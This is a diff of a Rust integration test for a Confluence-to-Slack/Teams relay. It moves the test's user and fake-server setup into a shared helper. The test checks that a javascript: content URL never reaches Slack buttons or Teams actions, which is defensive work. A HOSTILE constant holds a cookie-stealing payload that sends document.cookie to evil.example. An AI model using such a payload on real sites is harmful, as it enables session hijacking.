@@ -12,11 +12,11 @@ use crate::common;
 use std::path::Path;
 use std::time::Duration;
 
-use common::sidecar::{HOOK_SECRET, PAT, Sidecar};
-use pagehook_fakes::{ConfluenceAuth, FakeConfluence, FakeSlack, FakeTeams};
+use common::confluence::{self, ADA};
+use common::sidecar::{HOOK_SECRET, Sidecar};
+use pagehook_fakes::{FakeSlack, FakeTeams};
 use serde_json::Value;
 
-const ADA: &str = "8a7f80839e460b0f019e460ba6440001";
 const BOT: &str = "xoxb-unsafe-links";
 const HOSTILE: &str = "javascript:fetch('https://evil.example/?c='+document.cookie)//";
 const WAIT: Duration = Duration::from_secs(20);
@@ -49,8 +49,7 @@ fn legacy(name: &str, as_name: &str, into: &Path) -> String {
 
 #[test]
 fn a_javascript_content_url_never_reaches_a_slack_button_or_teams_action() {
-    let conf = FakeConfluence::start(ConfluenceAuth::Bearer(PAT.into()));
-    conf.put_user(ADA, "ada", "Ada Lovelace", "ada@example.com");
+    let conf = confluence::with_ada([]);
     let slack = FakeSlack::start(BOT);
     slack.add_channel("eng", "C0ENG00001", true);
     let teams = FakeTeams::start();
